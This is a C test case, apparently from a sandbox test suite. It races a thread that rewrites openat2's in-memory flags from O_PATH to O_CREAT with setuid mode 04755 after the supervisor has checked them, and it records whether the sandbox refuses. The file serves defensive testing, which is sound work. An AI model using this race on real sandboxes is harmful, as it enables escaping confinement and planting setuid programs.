// A set-user-ID program of one's own, left behind: openat2's flags are in memory, and another thread makes
// O_PATH, which asks for nothing, into O_CREAT after the supervisor has looked.
// class: OS sandboxes: a race on an argument in memory
// plain: change
// flags: --unblock all --write {W}/sub
// journal: write-status *left
#include "race.h"
#include <linux/openat2.h>

static volatile struct open_how how;

static void* swap(void* unused) {
  (void)unused;
  while (!race_over) {
    how.mode = 0;
    how.flags = O_PATH;
    linger(3000);
    how.mode = 04755;
    how.flags = O_CREAT | O_WRONLY;
    linger(3000);
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const char* const left = "sub/left";
  struct stat status;
  const pthread_t thread = race_begin(swap);
  for (int i = 0; race_goes_on(i, TRIES) && lstat(left, &status) != 0; ++i) {
    const int fd = (int)syscall(SYS_openat2, AT_FDCWD, left, &how, sizeof how);
    if (fd >= 0) close(fd);
  }
  race_end(thread);
  if (lstat(left, &status) != 0) refused("openat2 of a program");
  return 0;
}
